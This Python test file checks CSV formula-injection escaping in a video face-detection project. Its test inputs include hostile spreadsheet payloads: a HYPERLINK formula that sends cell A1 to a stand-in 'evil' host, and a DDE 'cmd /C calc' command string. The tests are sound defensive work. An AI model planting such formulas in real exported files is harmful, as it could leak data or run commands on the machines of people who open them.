"""Issue 19, class 3: every CSV the project writes is safe to open in a spreadsheet.

Text cells that start with ``= + - @`` (or a tab / carriage return) get a leading ``'``; numbers the
project formats itself are left alone; the ETL manifest reads the escaped cells back unchanged.
"""

from __future__ import annotations

import csv
import shutil

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner

from edge_detector.cli import main
from edge_detector.contract import ModelContract
from edge_detector.csvsafe import escape_cell, unescape_cell
from tests.hostile import FORMULA_NAMES, const_model

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text, escaped", [
    ('=HYPERLINK("http://evil/?"&A1,"click")', '\'=HYPERLINK("http://evil/?"&A1,"click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("'=1", "''=1"),  # already quoted by someone: one more quote, so it reads back unchanged
    ("clip.mp4", "clip.mp4"),
    ("'quoted", "'quoted"),
    ("", ""),
])
def test_escape_cell_table(text, escaped):
    assert escape_cell(text) == escaped
    assert unescape_cell(escaped) == text
    assert escape_cell(3.5) == 3.5 and escape_cell(None) is None


def _cells(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh) for c in row]


def _assert_no_formula(path):
    bad = [c for c in _cells(path) if c.startswith(FORMULA_START) and not _is_number(c)]
    assert not bad, bad


def _is_number(c: str) -> bool:
    try:
        float(c)
    except ValueError:
        return False
    return True


def test_scan_csvs_escape_file_names_and_class_names(tmp_path, face_video):
    """File names (summary.csv path) and class names (frames.csv method, summary.csv top_method)."""
    classes = ("original", "=HYPERLINK(\"http://x\")", "+cmd|' /C calc'!A0", "@SUM(1)")
    model = const_model(tmp_path / "m.onnx", [0.1, 0.7, 0.1, 0.1],
                        contract=ModelContract(classes, 32).to_dict())
    folder = tmp_path / "v"
    folder.mkdir()
    for name in FORMULA_NAMES:
        shutil.copy(face_video, folder / f"{name}.mp4")
    out = tmp_path / "out"
    res = CliRunner().invoke(main, [str(folder), "-m", str(model), "-o", str(out), "--no-video",
                                    "--no-report", "--max-frames", "3"])
    assert res.exit_code == 0, res.output
    summary = out / "summary.csv"
    _assert_no_formula(summary)
    df = pd.read_csv(summary, keep_default_na=False)
    assert sorted(df.path) == sorted("'" + n + ".mp4" for n in FORMULA_NAMES)
    assert set(df.top_method) == {"'=HYPERLINK(\"http://x\")"}
    frames = list(out.rglob("frames.csv"))
    assert len(frames) == len(FORMULA_NAMES)
    for f in frames:
        _assert_no_formula(f)
        rows = pd.read_csv(f, keep_default_na=False)
        assert set(rows.method) == {"'=HYPERLINK(\"http://x\")"}
        assert rows.p_fake.dtype == np.float64  # numbers stay numbers


def test_negative_box_coordinates_stay_numbers(tmp_path):
    """A number the project formats (a box partly outside the frame) is not a text cell."""
    from edge_detector.sinks.files import CsvWriter
    from edge_detector.types import Faces, Frame, FrameResult

    path = tmp_path / "frames.csv"
    faces = Faces(xyxy=np.array([[-12.0, -3.0, 40.0, 50.0]]), det_score=np.array([0.9]),
                  probs=np.array([[0.4, 0.6]]), p_fake=np.array([0.6]), label=np.array(["FAKE"]),
                  method=np.array(["-2+3"]), method_prob=np.array([0.6]), track=np.array([0]))
    with CsvWriter(path, ("original", "-2+3")) as w:
        w.write(FrameResult(Frame(0, 0.0, np.zeros((8, 8, 3), np.uint8)), faces, True))
    df = pd.read_csv(path, keep_default_na=False)
    assert df.x1.tolist() == [-12.0] and df.y1.tolist() == [-3.0]
    assert df.method.tolist() == ["'-2+3"] and "p_-2+3" in df.columns


def test_etl_manifest_round_trips_escaped_names(tmp_path):
    """The manifest is escaped on disk and read back with the original names (resume works)."""
    from train.manifest import ManifestRow, ManifestWriter, crops, load_finished

    names = ["=HYPERLINK(1)", "-2+3", "@x", "+y", "'=z", "plain"]
    with ManifestWriter(tmp_path) as w:
        for n in names:
            w.write_video([ManifestRow(n, "original", n, "train", 0, 0.0, 1, 1, 9, 9, 0.9,
                                       f"{n}.png", "ok"),
                           ManifestRow(n, "original", n, "train", -1, status="done")])
    _assert_no_formula(tmp_path / "manifest.csv")
    assert load_finished(tmp_path) == set(names)
    df = crops(tmp_path)
    assert df.video.tolist() == names and df.crop.tolist() == [f"{n}.png" for n in names]
